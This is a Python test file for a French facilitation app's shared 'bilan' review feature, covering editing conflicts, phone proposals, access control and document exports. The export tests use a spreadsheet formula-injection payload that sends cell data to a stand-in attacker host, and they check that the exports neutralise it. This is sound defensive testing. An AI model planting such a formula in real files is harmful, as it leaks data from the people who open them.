"""The bilan's pages over HTTP: start, write with one pen (conflict keeps the text), the
phones' proposals, visibility, documents read back (ODT with odfpy, PDF with pypdf)."""

from __future__ import annotations

import io

from facilitation.bilans import services as bilans
from facilitation.extensions import db

from ..conftest import text_of
from .conftest import HYPERLINK, PHONE_KEYS, collect


def login(client, user):
    from .. import factories

    response = client.post("/connexion", data={"email": user.email, "password": factories.PASSWORD})
    assert response.status_code == 302
    return client


def test_start_a_cycle_bilan_from_the_session(client, world):
    login(client, world.mediator)
    page = client.get(f"/seances/{world.session.id}/bilan/nouveau")
    assert page.status_code == 200
    template = bilans.builtin(world.org.id, "cycle")
    response = client.post(
        f"/seances/{world.session.id}/bilan/nouveau",
        data={"template_id": str(template.id), "scope": "cycle", "project_id": "0", "year": ""},
    )
    assert response.status_code == 302, text_of(response)[:2000]
    page = client.get(response.headers["Location"])
    text = text_of(page)
    assert "Bilan du cycle « Tronc commun »" in text
    assert "Étape 1 sur 5" in text
    for question in ("Ce qui a marché", "Ce qui a moins marché"):
        assert question in text


def _written(cycle_bilan, *, hyperlink_note=True):
    """Notes (one is a formula), a theme, two sections written, an action; finalised."""
    w, bilan, (p1, p2, _p3) = cycle_bilan.world, cycle_bilan.bilan, cycle_bilan.phones
    first, second = bilan.sections[0], bilan.sections[1]
    notes = collect(
        w, bilan, first, [(p1, "Le café"), (p2, HYPERLINK if hyperlink_note else "Autre")]
    )
    theme = bilans.add_theme(first, "Accueil")
    bilans.move_note(first, notes["Le café"], theme.id)
    pen = bilans.staff_pen(w.mediator)
    for section, body in ((first, "On s'est sentis accueillis."), (second, HYPERLINK)):
        bilans.take_pen(section, pen)
        bilans.save(section, pen, body, section.version, user=w.mediator)
    bilans.add_action(w.mediator, bilan, what="Demander un interprète", who="Amina", due="mars")
    bilans.finalise(w.mediator, bilan)
    return bilan


def test_a_mediator_of_another_space_gets_404_everywhere(client, cycle_bilan):
    w, bilan = cycle_bilan.world, cycle_bilan.bilan
    section = bilan.sections[0]
    login(client, w.other_mediator)
    for path in (
        f"/bilans/{bilan.id}",
        f"/bilans/{bilan.id}.pdf",
        f"/bilans/{bilan.id}.odt",
        f"/bilans/{bilan.id}/sections/{section.id}/historique",
    ):
        assert client.get(path).status_code == 404, path
    response = client.post(f"/bilans/{bilan.id}/sections/{section.id}/oral", data={"text": "x"})
    assert response.status_code == 404
    assert bilans.notes(section) == []


def test_the_losing_pen_gets_a_french_message_and_keeps_its_text(app, cycle_bilan):
    w, bilan = cycle_bilan.world, cycle_bilan.bilan
    section = bilan.sections[0]
    amina, camille = login(app.test_client(), w.mediator), login(app.test_client(), w.coordinator)
    url = f"/bilans/{bilan.id}/sections/{section.id}"
    assert amina.post(url + "/stylo").status_code == 302
    saved = amina.post(
        url + "/texte", data={"text": "Premier jet", "version": "0"}, headers={"HX-Request": "true"}
    )
    assert saved.status_code == 200 and "Enregistré ✓ (version 1)" in text_of(saved)
    assert camille.post(url + "/stylo").status_code == 302  # Camille takes the pen
    camille.post(url + "/texte", data={"text": "Version de Camille", "version": "1"})
    mine = "Premier jet, et ce que j'ajoutais"
    lost = amina.post(url + "/texte", data={"text": mine, "version": "1"})
    assert lost.status_code == 409
    text = text_of(lost)
    assert "Quelqu'un d'autre tient maintenant le stylo" in lost.get_data(as_text=True).replace(
        "&#39;", "'"
    )
    assert "Version de Camille" in text
    assert mine.replace("'", "&#39;") in lost.get_data(as_text=True)  # kept, in the textarea
    # Over htmx: 422, the message, and nothing else replaced (the textarea is kept).
    lost = amina.post(
        url + "/texte", data={"text": mine, "version": "2"}, headers={"HX-Request": "true"}
    )
    assert lost.status_code == 422 and "<textarea" not in lost.get_data(as_text=True)
    db.session.refresh(section)
    assert section.text == "Version de Camille"


def test_a_phone_proposes_a_sentence_the_pen_holder_accepts(app, client, cycle_bilan):
    w, bilan = cycle_bilan.world, cycle_bilan.bilan
    bilans.set_step(w.mediator, bilan, 5, 0)
    code = bilans.board_of(bilan).join_code
    phone = app.test_client()
    phone.set_cookie("fac_device", PHONE_KEYS[0])
    page = phone.get(f"/j/{code}/bilan")
    assert page.status_code == 200 and "Étape 5 sur 5" in text_of(page)
    refused = phone.post(f"/j/{code}/bilan/proposer", data={"text": "  "})
    assert refused.status_code == 422 and "Écrivez votre phrase" in text_of(refused)
    sent = phone.post(f"/j/{code}/bilan/proposer", data={"text": "On a appris à s'écouter."})
    assert sent.status_code == 200 and "Envoyé ✓" in text_of(sent)

    login(client, w.mediator)
    section = bilan.sections[0]
    client.post(f"/bilans/{bilan.id}/sections/{section.id}/stylo")
    page = client.get(f"/bilans/{bilan.id}")
    assert "On a appris à s&#39;écouter." in page.get_data(as_text=True)
    proposal = bilans.pending(section)[0]
    client.post(
        f"/bilans/{bilan.id}/propositions/{proposal.id}",
        data={"version": "0", "text": "On a appris à s'écouter."},
    )
    follow = phone.get(f"/j/{code}/bilan/contenu")
    assert "On a appris à s&#39;écouter." in follow.get_data(as_text=True)
    # A phone that did not join the board is sent to join it.
    stranger = app.test_client()
    assert stranger.get(f"/j/{code}/bilan").status_code == 302


def test_projector_shows_the_step_and_hides_notes_until_revealed(client, cycle_bilan):
    w, bilan, (p1, _p2, _p3) = cycle_bilan.world, cycle_bilan.bilan, cycle_bilan.phones
    section = bilan.sections[0]
    collect(w, bilan, section, [(p1, "Une note secrète")])
    bilans.set_step(w.mediator, bilan, 2, 0)
    board = bilans.board_of(bilan)
    url = f"/bilans/{bilan.id}/ecran/{board.screen_key}"
    text = text_of(client.get(url))
    assert "Étape 2 sur 5" in text and "1 note reçue" in text
    assert "Une note secrète" not in text
    from facilitation.live import services as live

    live.control(live.Actor(user=w.mediator), board, "reveal")
    assert "Une note secrète" in text_of(client.get(url + "/contenu"))
    assert client.get(f"/bilans/{bilan.id}/ecran/autre-cle").status_code == 404


def test_odt_read_back_with_odfpy_formula_stays_text(client, cycle_bilan):
    from odf import teletype
    from odf.namespaces import TABLENS
    from odf.opendocument import load
    from odf.table import TableCell
    from odf.text import H, P

    bilan = _written(cycle_bilan)
    login(client, cycle_bilan.world.mediator)
    response = client.get(f"/bilans/{bilan.id}.odt")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/vnd.oasis.opendocument.text"
    assert "attachment" in response.headers["Content-Disposition"]
    doc = load(io.BytesIO(response.data))
    lines = [teletype.extractText(e) for e in doc.getElementsByType(H) + doc.getElementsByType(P)]
    for expected in (
        "Bilan du cycle « Tronc commun »",
        "Ce qui a marché",
        "On s'est sentis accueillis.",
        "Ce qui a moins marché",
        HYPERLINK,
        "Ce qu'on fait ensuite",
        "Demander un interprète",
        "Accueil — 0 gommettes",
        "Séances tenues",
    ):
        assert expected in lines, expected
    cells = doc.getElementsByType(TableCell)
    assert cells and all(c.attributes.get((TABLENS, "formula")) is None for c in cells)


def test_pdf_text_holds_each_section_the_actions_and_the_themes(client, cycle_bilan):
    from pypdf import PdfReader

    bilan = _written(cycle_bilan)
    login(client, cycle_bilan.world.mediator)
    response = client.get(f"/bilans/{bilan.id}.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    text = " ".join(
        " ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.data)).pages
    )
    for expected in (
        "Bilan partagé",
        "Bilan du cycle « Tronc commun »",
        "Ce qui a marché",
        "On s'est sentis accueillis.",
        "Ce qui a moins marché",
        '=HYPERLINK("http://evil.example/?q="&A1,"Voir")',
        "Ce qu'on a appris",
        "Et maintenant ?",
        "Ce qu'on fait ensuite",
        "Demander un interprète",
        "proposition pour le prochain cycle",
        "Accueil",
        "écrit ensemble par 2 contributeur·rices",
    ):
        assert expected in text, expected


def test_the_session_report_links_its_bilan_and_its_csv_keeps_a_formula_as_text(
    client, cycle_bilan
):
    from ..reports.readers import csv_rows

    bilan = _written(cycle_bilan)
    login(client, cycle_bilan.world.mediator)
    session_id = cycle_bilan.world.session.id
    page = client.get(f"/seances/{session_id}/compte-rendu")
    assert f'href="/bilans/{bilan.id}"' in page.get_data(as_text=True)
    rows = csv_rows(client.get(f"/seances/{session_id}/compte-rendu.csv").data)
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells


def test_notre_bilan_for_people_who_took_part_finalised_only(app, cycle_bilan):
    from facilitation.participants.models import ParticipantDevice
    from facilitation.participants.services import hash_token

    w, bilan = cycle_bilan.world, cycle_bilan.bilan
    colibri = cycle_bilan.people["Colibri"]
    db.session.add(
        ParticipantDevice(device_hash=hash_token("colibri-own-key"), participant_id=colibri.id)
    )
    outsider = __import__("tests.factories", fromlist=["participant"]).participant(
        w.other_space, "Sirocco"
    )
    db.session.add(
        ParticipantDevice(device_hash=hash_token("sirocco-key-0001"), participant_id=outsider.id)
    )
    db.session.commit()
    phone = app.test_client()
    phone.set_cookie("fac_device", "colibri-own-key")
    assert "Pas encore de bilan finalisé" in text_of(phone.get("/moi/bilans/"))
    assert phone.get(f"/moi/bilans/{bilan.id}").status_code == 404  # not finalised yet
    _written(cycle_bilan)
    listing = text_of(phone.get("/moi/bilans/"))
    assert "Bilan du cycle « Tronc commun »" in listing
    mine = text_of(phone.get(f"/moi/bilans/{bilan.id}"))
    assert "On s" in mine and "Demander un interprète" in mine
    other = app.test_client()
    other.set_cookie("fac_device", "sirocco-key-0001")
    assert other.get(f"/moi/bilans/{bilan.id}").status_code == 404


def test_reopen_needs_a_reason_kept_in_the_history(client, cycle_bilan):
    bilan = _written(cycle_bilan)
    login(client, cycle_bilan.world.mediator)
    refused = client.post(f"/bilans/{bilan.id}/rouvrir", data={"reason": ""}, follow_redirects=True)
    assert "Dites pourquoi le bilan est rouvert" in text_of(refused)
    page = client.post(
        f"/bilans/{bilan.id}/rouvrir", data={"reason": "Une action oubliée"}, follow_redirects=True
    )
    text = text_of(page)
    assert "rouvert : Une action oubliée" in text and "finalisé" in text


def test_a_co_animating_phone_holds_the_pen_and_writes(app, cycle_bilan):
    from facilitation.live import services as live

    w, bilan, phone_row = cycle_bilan.world, cycle_bilan.bilan, cycle_bilan.phones[0]
    bilans.set_step(w.mediator, bilan, 5, 0)
    board = bilans.board_of(bilan)
    phone = app.test_client()
    phone.set_cookie("fac_device", PHONE_KEYS[0])
    url = f"/j/{board.join_code}/bilan"
    refused = phone.post(url + "/ecrire", data={"take": "1"})
    assert refused.status_code == 403
    live.control(live.Actor(user=w.mediator), board, "handover", {"participant_id": phone_row.id})
    taken = phone.post(url + "/ecrire", data={"take": "1"})
    assert "Vous tenez le stylo" in text_of(taken)
    saved = phone.post(url + "/ecrire", data={"text": "Écrit sur mon téléphone", "version": "0"})
    assert saved.status_code == 200 and "Enregistré ✓" in text_of(saved)
    stale = phone.post(url + "/ecrire", data={"text": "Encore", "version": "0"})
    assert stale.status_code == 409 and "Encore" in stale.get_data(as_text=True)
    db.session.refresh(bilan.sections[0])
    assert bilan.sections[0].text == "Écrit sur mon téléphone"


def test_coordinator_edits_a_template_bad_input_is_kept_with_a_french_message(client, world):
    template = bilans.builtin(world.org.id, "4l")
    db.session.commit()
    login(client, world.coordinator)
    url = f"/bilans/modeles/{template.id}"
    refused = client.post(url, data={"name": "Mon 4L", "questions": "a\x00\n" + "x" * 301})
    assert refused.status_code == 422
    assert "trop long" in text_of(refused) and "Mon 4L" in refused.get_data(as_text=True)
    saved = client.post(
        url, data={"name": "Mon 4L", "questions": "Aimé\nAppris", "with_meteo": "y"}
    )
    assert saved.status_code == 302
    listing = text_of(client.get("/bilans/modeles"))
    assert "Mon 4L" in listing and "Commence par une météo." in listing


def test_the_start_form_offers_templates_that_are_still_there_when_posted(client, world):
    """The built-ins are copied (committed) by the first GET; the POST finds the same ids."""
    from facilitation.bilans.models import BilanTemplate

    login(client, world.mediator)
    page = client.get(f"/seances/{world.session.id}/bilan/nouveau").get_data(as_text=True)
    db.session.expire_all()
    ids = {str(t.id) for t in db.session.query(BilanTemplate)}
    assert len(ids) == 4 and all(f'value="{i}"' in page for i in ids)


def test_the_finished_project_page_links_its_bilan(client, world):
    from facilitation.projects import services as projects

    project = projects.create_project(
        world.mediator,
        world.space,
        projects.ProjectData(title="Logement et santé", aim="", determinants=[], status="finished"),
    )
    template = bilans.builtin(world.org.id, "projet")
    bilan = bilans.start_bilan(
        world.mediator, world.session.id, template.id, scope="project", project_id=project.id
    )
    login(client, world.mediator)
    for path in (f"/projets/{project.id}", f"/projets/{project.id}/historique"):
        assert f'href="/bilans/{bilan.id}"' in client.get(path).get_data(as_text=True), path
